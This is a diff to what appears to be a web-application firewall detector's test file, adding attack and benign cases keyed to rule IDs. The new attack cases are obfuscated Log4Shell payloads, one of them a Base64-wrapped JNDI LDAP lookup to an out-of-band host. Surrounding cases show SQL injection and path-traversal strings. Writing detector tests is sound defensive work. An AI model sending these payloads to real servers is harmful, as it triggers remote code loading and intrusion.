@@ -681,6 +681,13 @@ export const ATTACKS: DetectorCase[] = [
     "5 UNIunionON SELselectECT 1,2,3 FRfromOM users",
     "942130",
   ),
+  {
+    name: "Log4Shell lookups nested with empty keys' defaults",
+    where: "header",
+    value: "${${::-${::-$${::-j}}}}",
+    hit: ["944150"],
+  },
+  q("a JNDI lookup inside a Base64 lookup", "${base64:JHtqbmRpOmxkYXA6Ly9jNmgzazJwOS5vYXN0LmZ1bi9iNjR9}", "944150"),
   j("an absolute path climbing back over its prefix in a bulk operation", "/Users/../Groups/admins", "930110"),
   q("an API path climbing from a public prefix to an admin one", "/api/public/../admin/keys", "930110"),
   j(
@@ -1220,6 +1227,7 @@ export const BENIGN: DetectorCase[] = [
     '<meta charset="utf-8"><meta name="viewport" content="width=device-width">',
   ),
   q("a password with a quote, a bang and a hash", "Winter'24!Boiler#Room"),
+  q("a shell default and a variable in a config value", "${HOME:-/tmp} and ${USER}"),
   j(
     "a link, then a sentence about configuration",
     "https://example.com/page\nThe config set up is broken, please flush all caches",
